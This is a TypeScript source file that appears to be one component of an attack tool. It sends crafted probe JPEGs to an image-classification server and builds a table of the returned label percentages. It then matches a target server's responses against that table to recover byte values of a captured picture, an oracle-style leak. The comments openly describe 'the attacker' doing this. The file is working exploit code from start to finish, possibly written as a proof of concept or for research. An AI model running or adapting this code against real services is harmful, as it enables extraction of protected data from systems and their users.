import type { Ask } from "./ask.js";
import { plainProbe, shownEntries, type ShownEntry } from "./probe-picture.js";

/** The labels that an answer in the original sample's words names, and their percentages. */
type Percentages = ReadonlyMap<string, number>;

const values = 256;

/**
 * What the model answers to the probe picture, for each entry that it shows and each value that the entry may have. The
 * attacker makes it once for each model, with plain uploads to any server that has the model.
 */
export class AnswerTable {
  readonly #answers: ReadonlyMap<ShownEntry, readonly Percentages[]>;

  private constructor(answers: ReadonlyMap<ShownEntry, readonly Percentages[]>) {
    this.#answers = answers;
  }

  /**
   * @param ask a server that reads plain uploads: 512 of them
   * @param start the first 16 bytes of any picture by the captured one's encoder
   */
  static async build(ask: Ask, start: Buffer): Promise<AnswerTable> {
    const answers = new Map<ShownEntry, Percentages[]>();
    for (const entry of shownEntries) {
      const row = Array.from({ length: values }, async (_, value) => {
        const { status, text } = await ask("probe.jpg", plainProbe(start, entry, value));
        const answer = readPercentages(text);
        if (answer === undefined) throw new Error(`expected labels; got ${status} ${text}`);
        return answer;
      });
      answers.set(entry, await Promise.all(row));
    }
    return new AnswerTable(answers);
  }

  /**
   * @returns the entry's value that an answer shows, or undefined where it names no labels or fits no value better than
   *   another. Answers are not compared for equality: the last digits of a probability may depend on the batch.
   */
  find(entry: ShownEntry, text: string): number | undefined {
    const answer = readPercentages(text);
    if (answer === undefined) return undefined;
    const [best, second] = (this.#answers.get(entry) ?? [])
      .map((known, value) => ({ value, far: distance(known, answer) }))
      .sort((one, other) => one.far - other.far);
    if (best === undefined || second === undefined) return undefined;
    return best.far < second.far / 4 ? best.value : undefined;
  }
}

/** @returns undefined for what names no labels: an error, or a JWE */
function readPercentages(text: string): Percentages | undefined {
  const lines = [...text.matchAll(/^\t\((.+), ([\d.e+-]+)\)$/gmu)];
  const read = lines.map(([, label = "", percentage = ""]) => [label, Number(percentage)] as const);
  return read.length === 0 ? undefined : new Map(read);
}

function distance(one: Percentages, other: Percentages): number {
  const labels = new Set([...one.keys(), ...other.keys()]);
  let sum = 0;
  for (const label of labels) sum += Math.abs((one.get(label) ?? 0) - (other.get(label) ?? 0));
  return sum;
}
